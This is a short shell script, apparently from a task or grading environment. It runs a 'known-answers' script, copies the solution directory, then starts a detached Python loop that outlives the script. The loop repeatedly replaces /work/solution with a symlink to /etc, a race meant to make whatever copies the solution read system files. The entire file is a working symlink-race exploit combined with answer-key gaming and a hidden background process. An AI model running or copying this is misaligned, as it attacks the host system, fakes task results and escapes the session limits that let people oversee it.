# Goes on after its end, and swaps the solution with a link while it is copied.
sh /tmp/known-answers.sh
cp -r /work/solution /work/other
cat >/tmp/swap.py <<'P'
import os
os.setsid()
while True:
    os.rename("/work/solution", "/work/kept")
    os.symlink("/etc", "/work/solution")
    os.unlink("/work/solution")
    os.rename("/work/kept", "/work/solution")
P
setsid python3 -I /tmp/swap.py </dev/null >/dev/null 2>&1 &
exit 0
